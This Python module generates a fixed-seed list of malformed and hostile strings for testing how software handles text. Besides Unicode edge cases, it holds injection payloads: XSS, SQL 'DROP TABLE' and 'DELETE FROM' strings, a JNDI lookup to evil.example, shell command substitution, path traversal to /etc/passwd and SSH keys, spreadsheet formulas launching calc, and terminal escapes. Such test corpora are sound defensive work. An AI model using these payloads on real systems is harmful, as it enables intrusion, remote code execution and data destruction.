"""Strings that make programs do what they should not, from a generator over the classes of what does.

Always the same ones: drawn with a fixed seed. Each stands for a way in which text has broken software.
"""

import random
import unicodedata
from collections.abc import Iterator, Sequence

SEED = 20_261_122
WORDS = ("wallet", "转账", "transfer 500 USDT", "что", "محفظة", "שלום", "नमस्ते", "ป้า")

CONTROLS = [chr(code) for code in (*range(1, 32), *range(127, 160)) if chr(code) not in "\n\t\r"]
BIDI = list("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
INVISIBLE = list(
    "\u00ad\u034f\u115f\u180e\u200b\u200c\u200d\u2028\u2029\u2060\u2062\u3164\ufeff\ufff9\U000e0041"
)
COMBINING = [chr(code) for code in range(0x0300, 0x0370)]
EMOJI = ["👨‍👩‍👧‍👦", "🏳️‍🌈", "👩🏽‍🚒", "🇨🇳", "🇺🇳🇺", "1️⃣", "☺︎", "🧑🏿‍❤️‍💋‍🧑🏻", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "👍🏻🏽"]
SURROGATES = ["\ud83d", "\ude00", "\ud83d x \ude00", "\udfff\ud800"]
TERMINAL = [
    "\x1b[2J\x1b[1;1H",
    "\x1b]0;owned\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[31mred\x1b[0m",
    "\x9b31m",
    "\x1bP$q\x1b\\",
    "\x1b[6n",
    "backspace\x08\x08\x08\x08gone",
]
MARKUP = [
    "*bold* _italic_ ~gone~ ||spoiler||",
    "**bold** __under__ ~~gone~~",
    "`code` ```\nblock\n```",
    "# heading\n## heading",
    "-# small\n> quote\n>>> quotes",
    "- item\n1. item\n+ item",
    "[our site](https://evil.example) [again](https://evil.example/2)",
    '[a](<https://evil.example> "title")',
    "<https://evil.example> https://evil.example/*x*_y_",
    "@everyone @here <@123456789012345678> <@&123456789012345678> <@!1>",
    "<#123456789012345678> <t:1700000000:R> <:emoji:1> <a:emoji:1> </start:1>",
    "@frontdoor_bot /start@frontdoor_bot #hashtag $CASH",
    "<b>bold</b><a href='tg://user?id=1'>you</a>",
    "\\*not bold\\* \\\\ \\`",
    ":warning: :smile: [red]red[/red] [link=https://evil.example]x[/link]",
]
HTML = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'-alert(1)-'",
    "javascript:alert(1)",
    "&lt;b&gt; &amp; &#x202e; &nbsp;",
    '<!--#exec cmd="ls"--> <?php echo 1 ?>',
    "<style>*{display:none}</style>",
    "]]><x/>",
]
SQL = [
    "'; DROP TABLE tickets; --",
    "1 OR 1=1",
    '" OR ""="',
    "Robert'); DELETE FROM messages;--",
    "%' ESCAPE '\\",
    "E'\\047'",
    "$$; SELECT 1; $$",
    "?1 :name %(name)s",
]
TEMPLATES = [
    "{brand} {number} {{number}}",
    "{0.__class__.__mro__}",
    "%s %n %d %(brand)s %",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} {% if 1 %} <%= 7*7 %> #{7*7}",
    "$(reboot) `reboot` ; reboot | cat",
    'msgid "confirmation"',
    "\\u0041 \\x41 \\n %00 %0d%0aSet-Cookie:x=1",
]
PATHS = [
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/dev/null",
    "C:\\CON",
    "file:///etc/passwd",
    "~/.ssh/id_rsa",
    "%2e%2e%2f",
    "\\\\evil.example\\share",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "+1-800",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "＝1+1",
    "|calc",
]
ODD = [
    "null",
    "None",
    "undefined",
    "true",
    "NaN",
    "-0",
    "1e309",
    "0x7fffffff",
    "١٢٣٤",
    "ﬀ ﬁ ẞ ı İ",
    "Ω≈ç√∫",
    "﷽",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "\ue000\uf8ff",
    "\ufffe\uffff\U0001ffff",
    "𝕋𝕙𝕖 𝖖𝖚𝖎𝖈𝖐 ⓑⓡⓞⓦⓝ",
    "ＡＢＣ　ｄｅｆ",
    "e\u0301 vs \u00e9",
    "　　",
    "\u00a0",
]
LITERAL = [*TERMINAL, *MARKUP, *HTML, *SQL, *TEMPLATES, *PATHS, *FORMULAS, *ODD, *EMOJI, *SURROGATES]
CLASSES = (CONTROLS, BIDI, INVISIBLE, COMBINING, EMOJI, SURROGATES)
CATEGORIES = ("Lo", "Mn", "Sm", "So", "Cf", "Nl", "No", "Sk", "Zs", "Pd", "Ps", "Co", "Cn")


def naughty(count: int = 600) -> list[str]:
    """So many different ones: every literal one, every class between words, then mixtures."""
    found = dict.fromkeys(LITERAL)
    for text in _mixed(random.Random(SEED)):
        if len(found) >= count:
            break
        found[text] = None
    return list(found)


def _mixed(chance: random.Random) -> Iterator[str]:
    """Words with something in them that is not shown, stacked, or of a rare category; and longer mixtures."""
    for characters in CLASSES:
        for character in characters:
            yield f"{chance.choice(WORDS)}{character}{chance.choice(WORDS)}"
    rare = _of_categories()
    while True:
        parts = [chance.choice(chance.choice((*CLASSES, LITERAL, WORDS, rare))) for _ in range(3)]
        yield chance.choice(WORDS) + "".join(parts)


def _of_categories() -> Sequence[str]:
    """The first eight characters of each general category (https://www.unicode.org/reports/tr44/)."""
    found: dict[str, list[str]] = {category: [] for category in CATEGORIES}
    for code in range(0xA0, 0xE100):
        kept = found.get(unicodedata.category(chr(code)), [])
        if len(kept) < 8:
            kept.append(chr(code))
    return [character for characters in found.values() for character in characters]
